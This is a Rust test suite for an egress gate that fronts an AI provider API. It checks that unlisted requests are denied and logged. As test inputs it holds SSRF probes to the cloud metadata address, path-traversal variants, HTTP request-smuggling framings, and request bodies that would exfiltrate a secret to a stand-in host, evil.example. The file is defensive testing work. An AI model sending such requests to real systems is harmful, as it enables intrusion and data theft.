//! Everything that is not listed is denied, told, and reaches nobody.

use crate::support::{Reply, Rig, Upstream, completed};
use ikigai_ports::gate::GateEvent;
use serde_json::{Value, json};

const WAYS_OUT: [&str; 16] = [
    "CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443",
    "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x",
    "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254",
    "POST http://127.0.0.1/v1/responses HTTP/1.1\r\nHost: 127.0.0.1",
    "GET / HTTP/1.1\r\nHost: x",
    "GET /v1/responses/resp_1 HTTP/1.1\r\nHost: x",
    "DELETE /v1/responses/resp_1 HTTP/1.1\r\nHost: x",
    "POST /v1/files HTTP/1.1\r\nHost: x",
    "POST /v1/chat/completions HTTP/1.1\r\nHost: x",
    "GET /v1/organization/admin_api_keys HTTP/1.1\r\nHost: x",
    "POST /v1/responses/../files HTTP/1.1\r\nHost: x",
    "POST /v1/responses%2f..%2ffiles HTTP/1.1\r\nHost: x",
    "POST //evil.example/v1/responses HTTP/1.1\r\nHost: evil.example",
    "GET /health HTTP/1.1\r\nHost: x",
    "POST /v1/tasks HTTP/1.1\r\nHost: x",
    "OPTIONS * HTTP/1.1\r\nHost: x",
];

#[tokio::test]
async fn every_other_way_out_is_shut() {
    let upstream = Upstream::start(|_| Reply::events(completed(1, 0, 1))).await;
    let mut rig = Rig::new(upstream.model()).await;
    for way in WAYS_OUT {
        let answer = rig.raw(&format!("{way}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")).await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{way:?} -> {answer}");
        let body: Value = serde_json::from_str(answer.split_once("\r\n\r\n").unwrap().1).unwrap();
        assert_eq!(body["code"], "denied");
        assert!(body["message"].as_str().unwrap().contains("is not allowed"), "{body}");
        assert!(!body["hint"].as_str().unwrap().is_empty());
        let GateEvent::Denied { what } = rig.event().await else { panic!("{way:?} was not told") };
        assert_eq!(what.split(' ').next(), way.split(' ').next());
    }
    assert!(upstream.seen().is_empty());
}

#[tokio::test]
async fn what_is_no_http_is_told_too() {
    let upstream = Upstream::start(|_| Reply::events(completed(1, 0, 1))).await;
    let mut rig = Rig::new(upstream.model()).await;
    for text in
        ["\x16\x03\x01\x02\x00\x01\x00\x01\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "SSH-2.0-x\r\n\r\n"]
    {
        let answer = rig.raw(text).await;
        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{text:?} -> {answer}");
        assert!(matches!(rig.event().await, GateEvent::Denied { .. }), "{text:?}");
    }
}

#[tokio::test]
async fn a_request_cannot_hide_behind_another() {
    let upstream = Upstream::start(|_| Reply::events(completed(1, 0, 1))).await;
    let rig = Rig::new(upstream.model()).await;
    for framing in [
        "Content-Length: 2\r\nContent-Length: 60\r\n",
        "Content-Length: 60\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: identity\r\n",
        "Transfer-Encoding: chunked, identity\r\n",
        "Content-Length: +2\r\n",
        "Content-Length : 2\r\n",
    ] {
        let hidden = "POST /v1/files HTTP/1.1\r\nHost: x\r\n\r\n";
        rig.raw(&format!(
            "POST /v1/responses HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{framing}\r\n0\r\n\r\n{hidden}"
        ))
        .await;
    }
    assert!(upstream.seen().is_empty(), "{:?}", upstream.seen());
}

#[tokio::test]
async fn a_call_that_would_make_the_provider_go_out_is_refused() {
    let upstream = Upstream::start(|_| Reply::events(completed(1, 0, 1))).await;
    let mut rig = Rig::new(upstream.model()).await;
    for body in [
        json!({"model": "m", "input": "x", "tools": [{"type": "web_search"}]}),
        json!({"model": "m", "input": "x", "tools": [{"type": "mcp", "server_url": "https://evil.example"}]}),
        json!({"model": "m", "input": [{"content": [{"image_url": "https://evil.example/?q=secret"}]}]}),
        json!({"model": "m", "input": "x", "background": true}),
        json!([1]),
    ] {
        let response = rig.call(&body).await;
        assert_eq!(response.status(), 400, "agents' CLIs show this at once and do not try again: {body}");
        let GateEvent::Denied { what } = rig.event().await else { panic!("{body} was not told") };
        assert!(what.starts_with("POST /responses: "), "{what}");
    }
    assert!(upstream.seen().is_empty());
}
